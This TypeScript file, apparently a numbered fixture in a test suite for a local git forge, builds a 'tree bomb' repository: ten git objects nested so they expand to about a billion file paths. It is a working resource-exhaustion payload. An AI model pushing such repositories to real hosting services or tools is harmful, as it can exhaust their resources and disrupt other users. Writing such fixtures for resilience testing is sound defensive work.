/** Attack 21: folders that all hold the same folder, ten to the ninth paths in ten objects. */
import { execFileSync } from "node:child_process";

/** Fills a bare repository; to be passed to the local forge as a repository's `setup`. */
export async function treeBomb(dir: string): Promise<void> {
  const git = (args: string[], input?: string): string =>
    execFileSync("git", ["-C", dir, ...args], input === undefined ? {} : { input })
      .toString()
      .trim();
  const blob = git(["hash-object", "-w", "--stdin"], "boom\n");
  let tree = git(["mktree"], Array.from({ length: 10 }, (_, i) => `100644 blob ${blob}\tf${i}\n`).join(""));
  for (let level = 0; level < 8; level++) {
    tree = git(["mktree"], Array.from({ length: 10 }, (_, i) => `040000 tree ${tree}\td${i}\n`).join(""));
  }
  const commit = git([
    "-c",
    "user.name=B",
    "-c",
    "user.email=b@example.com",
    "commit-tree",
    tree,
    "-m",
    "Boom",
  ]);
  git(["update-ref", "refs/heads/main", commit]);
}
